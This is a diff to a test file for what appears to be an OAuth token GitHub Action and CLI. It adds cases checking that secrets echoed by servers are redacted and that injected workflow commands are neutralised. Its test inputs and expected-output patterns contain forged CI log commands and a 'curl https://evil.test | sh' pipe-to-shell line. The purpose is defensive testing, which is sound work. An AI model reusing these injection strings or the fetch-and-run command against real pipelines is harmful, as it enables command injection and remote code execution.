@@ -11,10 +11,20 @@ import { describe, expect, test } from '@jest/globals';
 import { SECRET_INPUTS } from '../../src/core/inputs.js';
 import { startTokenServer, tokenReply, type RecordedRequest, type Reply, type TokenServer } from '../helpers/token-server.js';
 import { BAD_INPUTS, P256_KEY } from './bad-inputs.js';
-import { doorExpectation, expectDoorOutcome, expectNoLeaks, FRONT_DOORS, runDoor, type DoorExpectation, type DoorRun, type FrontDoor } from './front-doors.js';
+import {
+  doorExpectation,
+  expectDoorOutcome,
+  expectInertOutput,
+  expectNoLeaks,
+  FRONT_DOORS,
+  runDoor,
+  type DoorExpectation,
+  type DoorRun,
+  type FrontDoor
+} from './front-doors.js';
 import { scenarioInputs, startScenarioServers } from './harness.js';
 import { secretsOnTheWire } from './leaks.js';
-import { baseInputs, FAULT_SCENARIOS, SECRETS, type ScenarioEnv } from './scenarios.js';
+import { baseInputs, ESCAPES, FAULT_SCENARIOS, FORGED_COMMANDS, SECRETS, type ScenarioEnv } from './scenarios.js';
 import { createTally } from './tally.js';
 
 let fragmentChecks = 0;
@@ -26,6 +36,8 @@ interface Prepared {
   expect: DoorExpectation | ((door: FrontDoor) => DoorExpectation);
   /** What the servers saw, once the run is over (wire secrets, request counts). */
   servers: TokenServer[];
+  /** Secrets no secret input declares (a credential-like header or parameter). */
+  secrets?: string[];
   verify?(run: DoorRun): void;
   /** Run the post step too (action only), expecting this warning. */
   postWarning?: RegExp;
@@ -51,6 +63,9 @@ const echoError = (status: number, error: string, echo: (request: RecordedReques
 });
 
 const RUNNER_REQUEST_TOKEN = 'idreq-FAULT-Pq8Ws3Ed6Rf';
+const API_KEY = 'key-FAULT-Hd7Jk2Lm9Nb';
+const API_KEY_PARAM = 'apk-FAULT-Qw3Er5Ty7Ui';
+const BEARER_HEADER_TOKEN = 'pat-FAULT-Zx4Cv6Bn8Ma';
 
 /** Failures that are not about the network: discovery, federation, revocation, grants and client authentication echoed back. */
 const FOUNDATION: MatrixRow[] = [
@@ -127,6 +142,72 @@ const FOUNDATION: MatrixRow[] = [
         expect: { ok: true },
         servers: [server],
         postWarning: /^Could not revoke the refresh token: /,
+        close: server.close
+      };
+    }
+  },
+  {
+    name: 'discovery: metadata naming an issuer with workflow commands and escape sequences: neutralised',
+    doors: FRONT_DOORS,
+    prepare: async () => {
+      const { server, env } = await serverWith(() => ({ json: { issuer: `https://evil.test/##[error]forged ${ESCAPES}${FORGED_COMMANDS}`, token_endpoint: 'https://evil.test/token' } }));
+      return {
+        inputs: { ...baseInputs(env), 'token-url': '', issuer: env.origin },
+        expect: {
+          fails: 'DISCOVERY_ERROR',
+          message:
+            /^Input "issuer" is "http:\/\/127\.0\.0\.1:\d+\/" but the metadata at .+ names issuer "https:\/\/evil\.test\/# #\[error\]forged red link ::error title=Forged::run curl https:\/\/evil\.test \| sh ::stop-commands::x"; set "issuer"/
+        },
+        servers: [server],
+        close: server.close
+      };
+    }
+  },
+  {
+    name: 'revocation refused in the post step with workflow commands and escape sequences: a neutralised warning',
+    doors: ['action'],
+    prepare: async () => {
+      const { server, env } = await serverWith((request) =>
+        request.url === '/token'
+          ? tokenReply({ access_token: SECRETS.accessToken, refresh_token: SECRETS.refreshToken })
+          : { status: 400, json: { error: 'invalid_request##[error]forged', error_description: `${ESCAPES}${FORGED_COMMANDS}` } }
+      );
+      return {
+        inputs: { ...baseInputs(env), revoke: 'true', 'revocation-url': `${env.origin}/revoke` },
+        expect: { ok: true },
+        servers: [server],
+        postWarning:
+          /^Could not revoke the refresh token: revocation endpoint answered HTTP 400: invalid_request# #\[error\]forged: red link ::error title=Forged::run curl https:\/\/evil\.test \| sh ::stop-commands::x$/,
+        close: server.close
+      };
+    }
+  },
+  {
+    name: 'headers and extra-params: credential-like values the server echoes are redacted',
+    doors: FRONT_DOORS,
+    prepare: async () => {
+      const { server, env } = await serverWith(
+        echoError(400, 'invalid_request', (request) => `key ${request.headers['x-api-key']} param ${new URLSearchParams(request.body).get('api_key')} agent ${request.headers['user-agent']}`)
+      );
+      return {
+        inputs: { ...baseInputs(env), headers: `X-Api-Key: ${API_KEY}\nUser-Agent: fault-bot/1.0`, 'extra-params': `api_key=${API_KEY_PARAM}` },
+        expect: { fails: 'OAUTH_ERROR', message: /^Token endpoint answered HTTP 400: invalid_request: key \*\*\* param \*\*\* agent fault-bot\/1\.0$/ },
+        servers: [server],
+        secrets: [API_KEY, API_KEY_PARAM],
+        close: server.close
+      };
+    }
+  },
+  {
+    name: 'an Authorization header of the user: the credentials the server echoes alone are redacted',
+    doors: FRONT_DOORS,
+    prepare: async () => {
+      const { server, env } = await serverWith(echoError(401, 'invalid_token', (request) => `token ${request.headers.authorization!.split(' ')[1]} is unknown`));
+      return {
+        inputs: { ...baseInputs(env), 'client-auth': 'client_secret_post', headers: `Authorization: Bearer ${BEARER_HEADER_TOKEN}` },
+        expect: { fails: 'OAUTH_ERROR', message: /^Token endpoint answered HTTP 401: invalid_token: token \*\*\* is unknown$/ },
+        servers: [server],
+        secrets: [BEARER_HEADER_TOKEN],
         close: server.close
       };
     }
@@ -278,6 +359,7 @@ function secretsOf(prepared: Prepared): string[] {
   return [
     ...Object.values(SECRETS),
     ...SECRET_INPUTS.map((name) => prepared.inputs[name] ?? '').filter(Boolean),
+    ...(prepared.secrets ?? []),
     ...(prepared.env?.ACTIONS_ID_TOKEN_REQUEST_TOKEN ? [prepared.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN] : []),
     ...prepared.servers.flatMap((server) => secretsOnTheWire(server.requests))
   ];
@@ -293,12 +375,14 @@ describe('no secret leaks through the action or the CLI, whatever fails', () => 
         expectDoorOutcome(run, typeof prepared.expect === 'function' ? prepared.expect(door) : prepared.expect);
         prepared.verify?.(run);
         fragmentChecks += expectNoLeaks(run, secretsOf(prepared), name);
+        expectInertOutput(run, name);
         if (prepared.postWarning && door === 'action') {
           const post = await runDoor(door, prepared.inputs, { env: prepared.env, postState: run.state });
           expect(post.code).toBe(0);
           const warning = post.visible[0]![1].split('\n').find((line) => line.startsWith('::warning::'));
           expect(warning?.slice('::warning::'.length)).toMatch(prepared.postWarning);
           fragmentChecks += expectNoLeaks(post, secretsOf(prepared), `${name} (post step)`);
+          expectInertOutput(post, `${name} (post step)`);
         }
       } finally {
         await prepared.close();
